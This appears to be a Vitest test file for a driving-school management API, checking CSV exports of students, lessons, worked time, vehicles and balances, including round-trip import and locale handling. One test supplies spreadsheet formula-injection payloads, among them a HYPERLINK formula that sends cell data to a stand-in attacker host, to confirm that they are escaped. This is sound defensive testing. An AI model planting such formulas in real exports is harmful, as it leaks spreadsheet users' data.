import { parse } from 'csv-parse/sync'
import { beforeEach, describe, expect, it } from 'vitest'
import { useService } from '../support/app.ts'
import { aSchool, type Row, type School } from '../support/factory.ts'
import { addStudents } from '../support/long-list.ts'

const service = useService()
let school: School

beforeEach(async () => {
  school = await aSchool(service())
})

/** Returns a file with its byte order mark, which a client would remove. */
async function fileOf(
  path: string,
  { client }: School = school,
): Promise<{ text: string; headers: Headers }> {
  const response = await fetch(`${service().url}/api/v1${path}`, { headers: client.headers })
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
  expect(response.status, text).toBe(200)
  return { text, headers: response.headers }
}

/** Returns the lines of a file by heading, without the apostrophes that keep spreadsheets from computing. */
function rowsOf(text: string, delimiter = ';'): readonly Record<string, string>[] {
  const cast = (cell: string) => cell.replace(/^'(?=[=+\-@])/, '')
  return parse(text, { bom: true, columns: true, delimiter, cast })
}

describe('GET /exports/students.csv', () => {
  it('returns the same students as the API, in a file that can be imported', async () => {
    const { id: instructor } = await school.instructor()
    const templates: { id: string; code: string }[] = (await school.client.get('/license-class-templates'))
      .body
    const template = templates.find(({ code }) => code === 'B197')
    await school.student({
      first_name: 'Łucja "Lu"',
      last_name: 'Groß; Klein',
      email: 'lu@mail.example',
      phone: '+49 30 5550145',
      phone_2: '0171 5550146',
      birth_date: '2008-02-29',
      address: 'Allee 5\n01099 Dresden',
      license_class_template_id: template?.id,
      prior_classes: [{ license_class: 'AM', since: '2024-05-04' }, { license_class: 'L' }],
      preferred_instructor_id: instructor,
      pickup_place: '=Bahnhof; Süd',
      language: 'tr',
      lessons_per_week: 2,
      notes: 'zwei\nZeilen, und =1',
      messages_consent: true,
      message_channel: 'webhook',
    })
    await school.student()
    const { text, headers } = await fileOf('/exports/students.csv')
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present')
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="students-\d{4}-\d\d-\d\d\.csv"$/,
    )
    expect(text.slice(0, 4)).toBe('\ufeffID;')
    const students: readonly Row[] = (await school.client.get('/students')).body
    expect(rowsOf(text)).toEqual(
      students.map((student) => ({
        ID: student.id,
        Vorname: student.first_name,
        Nachname: student.last_name,
        'E-Mail': student.email ?? '',
        Telefon: student.phone ?? '',
        'Telefon 2': student.phone_2 ?? '',
        Geburtsdatum: student.birth_date ?? '',
        Adresse: student.address ?? '',
        Klasse: student.license_class_template_id ? 'B197' : '',
        Fahrlehrer: student.preferred_instructor_id ? 'Jonas Brandt' : '',
        Abholort: student.pickup_place ?? '',
        Notizen: student.notes ?? '',
        'Nachrichten erlaubt': student.messages_consent ? 'ja' : 'nein',
        'Nachrichten über': student.message_channel,
        Sprache: student.language ?? '',
        'Fahrstunden je Woche': String(student.lessons_per_week ?? ''),
        Vorbesitz: student.license_class_template_id ? 'AM (2024-05-04), L' : '',
        Ehemalig: student.archived_at === null ? 'nein' : 'ja',
      })),
    )
    const other = await aSchool(service())
    await other.instructor()
    const file = Buffer.from(text).toString('base64')
    expect((await other.client.post('/student-imports', { file })).body.imported).toBe(2)
    const again = await fileOf('/exports/students.csv', other)
    const known = (rows: readonly Record<string, string>[]) => rows.map(({ ID: _, ...row }) => row)
    expect(known(rowsOf(again.text))).toEqual(known(rowsOf(text)))
  })

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '＝1', '=HYPERLINK("https://evil.example?"&A1)'])(
    'escapes the formula %s for spreadsheets',
    async (formula) => {
      await school.student({ first_name: formula, last_name: formula, notes: formula })
      const [row] = parse((await fileOf('/exports/students.csv')).text, {
        bom: true,
        delimiter: ';',
        from: 2,
      })
      expect([row?.[1], row?.[2], row?.[11]]).toEqual(Array(3).fill(`'${formula}`))
    },
  )

  it('uses the language and delimiter of the school', async () => {
    const english = await aSchool(service(), { locale: 'en', country: 'GB', timezone: 'Europe/London' })
    await english.student()
    const { text } = await fileOf('/exports/students.csv', english)
    expect(text.split('\r\n')[0]).toBe(
      '\ufeffID,First name,Last name,Email,Phone,Phone 2,Date of birth,Address,Licence class,Instructor,Pick-up place,Notes,Messages allowed,Messages by,Language,Lessons a week,Classes held,Former',
    )
    expect(rowsOf(text, ',')).toMatchObject([{ 'First name': 'Lena', 'Last name': 'Vogt' }])
  })

  // A file is read in pages, and the embedded database has one connection for all readers.
  it('returns all 1,001 students, but no deleted ones and none of another school', {
    tags: 'embedded',
  }, async () => {
    await (await aSchool(service())).student({ last_name: 'Fremd' })
    const { id } = await school.student({ last_name: 'Weg' })
    await school.client.delete(`/students/${id}`)
    expect(rowsOf((await fileOf('/exports/students.csv')).text)).toEqual([])
    await addStudents(service(), school, 1001)
    const rows = rowsOf((await fileOf('/exports/students.csv')).text)
    expect(new Set(rows.map(({ ID }) => ID)).size).toBe(1001)
  })
})

describe('the exports of lessons and worked time', () => {
  it('cover the lessons that start in the period', async () => {
    const jonas = await school.instructor()
    const eva = await school.instructor({ first_name: 'Eva', last_name: 'Adler' })
    const student = await school.student()
    const day = (date: string, from = '08:00', to = '09:30') => ({
      start_at: `${date} ${from}`,
      end_at: `${date} ${to}`,
    })
    const book = (date: string, fields: object = {}) =>
      school.lesson({ instructor_id: jonas.id, student_id: student.id, ...day(date), ...fields })
    const held = await book('2026-05-04', { lesson_type_id: school.lessonTypes.PRACTICAL_EXAM })
    await book('2026-05-05')
    const left = await book('2026-05-31', { student_id: null, ...day('2026-05-31', '23:00', '23:45') })
    await book('2026-06-01')
    const actual = { actual_start_at: '2026-05-04 08:10', actual_end_at: '2026-05-04 09:50' }
    await school.client.patch(`/appointments/${held.id}`, {
      status: 'completed',
      practised: 'Stadt',
      exam_result: { passed: false, note: 'Vorfahrt' },
      ...actual,
    })
    await school.client.patch(`/appointments/${left.id}`, { status: 'completed' })
    const period = 'from=2026-05-01&to=2026-05-31'
    const lessons = rowsOf((await fileOf(`/exports/appointments.csv?${period}`)).text)
    const listed: readonly Row[] = (await school.client.get(`/appointments?${period}`)).body
    expect(lessons.map(({ ID }) => ID)).toEqual(listed.map(({ id }) => id))
    expect(lessons[0]).toEqual({
      ID: held.id,
      Beginn: '2026-05-04 08:00',
      Ende: '2026-05-04 09:30',
      Minuten: '100',
      Fahrlehrer: 'Jonas Brandt',
      Fahrschüler: 'Lena Vogt',
      Art: 'Praktische Prüfung',
      Titel: held.title,
      Status: 'completed',
      'Tatsächlicher Beginn': '2026-05-04 08:10',
      'Tatsächliches Ende': '2026-05-04 09:50',
      Geübt: 'Stadt',
      Notizen: '',
      Prüfungsergebnis: 'failed',
      'Notiz zur Prüfung': 'Vorfahrt',
    })
    const worked = rowsOf((await fileOf(`/exports/worked-time.csv?${period}`)).text)
    expect(worked.map((row) => Object.values(row))).toEqual([
      [eva.id, 'Adler', 'Eva', '0', '0'],
      [jonas.id, 'Brandt', 'Jonas', '2', '145'],
    ])
  })

  it.each(['appointments', 'worked-time'])('return 400 for %s without a valid period', async (name) => {
    const { status, body } = await school.client.get(`/exports/${name}.csv`)
    expect([status, body.errors.length]).toEqual([400, 2])
    const order = await school.client.get(`/exports/${name}.csv?from=2026-05-02&to=2026-05-01`)
    expect(order.body.errors).toMatchObject([{ pointer: '?to', code: 'wrong_order' }])
  })
})

describe('the exports of vehicles and opening balances', () => {
  it('have a row for each vehicle and each entry of a balance', async () => {
    const golf = {
      name: 'Golf; 8',
      kind: 'car',
      gearbox: 'manual',
      license_classes: ['B', 'BE'],
      plate: 'B-FS 1',
    }
    await school.client.post('/vehicles', golf)
    await school.client.post('/vehicles', { name: 'Anhänger', kind: 'trailer', active: false, notes: '=1' })
    const vehicles = rowsOf((await fileOf('/exports/vehicles.csv')).text)
    expect(vehicles).toMatchObject([
      { Name: 'Anhänger', Art: 'trailer', 'In Betrieb': 'nein', Klassen: '', Notizen: '=1' },
      { Name: 'Golf; 8', Getriebe: 'manual', Klassen: 'B, BE', Kennzeichen: 'B-FS 1', 'In Betrieb': 'ja' },
    ])
    const { id } = await school.student()
    await school.student({ first_name: 'Mia' })
    const entry = (units: number, code: string) => ({
      lesson_type_id: school.lessonTypes[code],
      units,
      date: '2026-03-31',
      source: 'Fahrschule Süd',
    })
    await school.client.put(`/students/${id}/opening-balance`, [entry(3, 'RURAL'), entry(1, 'NIGHT')])
    const balances = rowsOf((await fileOf('/exports/opening-balances.csv')).text)
    const common = { ID: id, Vorname: 'Lena', Stand: '2026-03-31', Herkunft: 'Fahrschule Süd' }
    expect(balances).toMatchObject([
      { ...common, Art: expect.stringContaining('Überland'), Einheiten: '3' },
      { ...common, Art: expect.stringContaining('Nacht'), Einheiten: '1' },
    ])
  })
})
